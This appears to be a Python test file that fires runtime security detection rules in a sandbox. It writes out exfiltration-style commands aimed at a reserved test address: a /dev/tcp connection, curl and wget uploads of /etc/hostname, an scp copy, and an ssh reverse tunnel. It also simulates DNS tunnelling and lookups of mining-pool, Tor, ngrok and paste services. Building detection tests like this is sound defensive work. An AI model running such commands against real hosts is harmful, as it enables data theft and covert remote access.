# SPDX-License-Identifier: Apache-2.0
from support.box import Box
from support.stand_in import ASK, KNOCK, ask, ask_many, knock, stand_in

from default_rules import trigger

OUTSIDE = "203.0.113.9"  # RFC 5737: nobody's

# A name server that knows no name, and a client that listens to it.
NO_SUCH_NAME = """
import threading
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(("127.0.0.1", 53))
def serve():
    while True:
        question, client = server.recvfrom(512)
        server.sendto(question[:2] + b"\\x81\\x83" + question[4:], client)
threading.Thread(target=serve, daemon=True).start()
for i in range(50):
    ask(f"q{i}zx.com")
    asking.recvfrom(512)
"""


@trigger("connection-from-system-utility", internet=True)
def a_shell_connects(box: Box) -> None:
    box.sh(f"(: < /dev/tcp/{OUTSIDE}/4445) 2> /dev/null", shell="/bin/bash")


@trigger("mining-pool-asked")
def a_pool(box: Box) -> None:
    ask(box, "pool.minexmr.com")


@trigger("stratum-port-contacted", internet=True)
def the_port_of_a_pool(box: Box) -> None:
    knock(box, OUTSIDE, 3333)


@trigger("tor-used")
def the_local_proxy(box: Box) -> None:
    knock(box, "127.0.0.1", 9050)


@trigger("tor-program-started")
def a_client_of_tor(box: Box) -> None:
    stand_in(box, "tor", "-f", "/etc/torrc")


@trigger("hidden-network-name-asked")
def an_onion(box: Box) -> None:
    ask(box, "abcdefghijklmnop.onion")


@trigger("tunnel-service-asked")
def a_tunnel(box: Box) -> None:
    ask(box, "tunnel.us.ngrok.com")


@trigger("paste-or-drop-service-asked")
def a_paste(box: Box) -> None:
    ask(box, "pastebin.com")


@trigger("chat-service-asked-by-tool")
def a_bot(box: Box) -> None:
    ask(box, "api.telegram.org")


@trigger("address-echo-service-asked")
def what_is_my_address(box: Box) -> None:
    ask(box, "ifconfig.me")


@trigger("out-of-band-test-domain-asked")
def a_payload_worked(box: Box) -> None:
    ask(box, "c59hhm2.oast.fun")


@trigger("long-name-asked")
def data_in_a_label(box: Box) -> None:
    ask(
        box,
        "4d5a90000300000004000000ffff0000b800000000000000400000000000.t.example.com",
    )


@trigger("many-names-asked")
def a_tunnel_of_names(box: Box) -> None:
    ask_many(box, "n%d.t.example.com", 220)


@trigger("unknown-names-asked")
def generated_names(box: Box) -> None:
    box.python(ASK + NO_SUCH_NAME)


@trigger("data-in-name-records")
def text_records(box: Box) -> None:
    ask_many(box, "n%d.t.example.com", 40, "TXT")


@trigger("encrypted-name-lookups", internet=True)
def over_https(box: Box) -> None:
    knock(box, "1.1.1.1", 443)


@trigger("encrypted-name-lookups", internet=True)
def over_tls(box: Box) -> None:
    knock(box, OUTSIDE, 853)


@trigger("ssh-on-unusual-port", internet=True)
def by_the_port_of_https(box: Box) -> None:
    box.run(
        [
            "/usr/bin/ssh",
            "-F",
            "none",
            "-o",
            "ConnectTimeout=1",
            "-p",
            "443",
            f"u@{OUTSIDE}",
            "true",
        ]
    )


@trigger("ssh-server-in-container")
def a_server_started_by_a_shell(box: Box) -> None:
    stand_in(box, "sshd", "-D")


@trigger("ssh-tunnel", internet=True)
def a_reverse_tunnel(box: Box) -> None:
    tunnel = ["-fNR", "2222:127.0.0.1:22"]
    box.run(
        [
            "/usr/bin/ssh",
            "-F",
            "none",
            "-o",
            "ConnectTimeout=1",
            *tunnel,
            f"u@{OUTSIDE}",
        ]
    )


@trigger("remote-copy-in-container", internet=True)
def a_copy_over_ssh(box: Box) -> None:
    box.run(
        [
            "/usr/bin/scp",
            "-F",
            "none",
            "-o",
            "ConnectTimeout=1",
            "/etc/hostname",
            f"u@{OUTSIDE}:",
        ]
    )


@trigger("local-file-uploaded", internet=True)
def an_upload(box: Box) -> None:
    box.run(["/usr/bin/curl", "-s", "-m", "2", "-T", "/etc/hostname", f"http://{OUTSIDE}/"])


@trigger("local-file-uploaded", internet=True)
def an_upload_by_wget(box: Box) -> None:
    box.run(
        [
            "/usr/bin/wget",
            "-q",
            "-T",
            "2",
            "-t",
            "1",
            "--post-file=/etc/hostname",
            f"http://{OUTSIDE}/",
        ]
    )


@trigger("files-copied-through-the-runtime")
def out_of_the_container(box: Box) -> None:
    box.run(["tar", "cf", "-", "/etc/hostname"])


@trigger("irc-contacted", internet=True)
def a_bot_of_old(box: Box) -> None:
    knock(box, OUTSIDE, 6667)


@trigger("mail-sent-in-bulk", internet=True)
def spam(box: Box) -> None:
    box.python(f"{KNOCK}\nfor i in range(1, 31): knock('203.0.113.%d' % i, 25)")
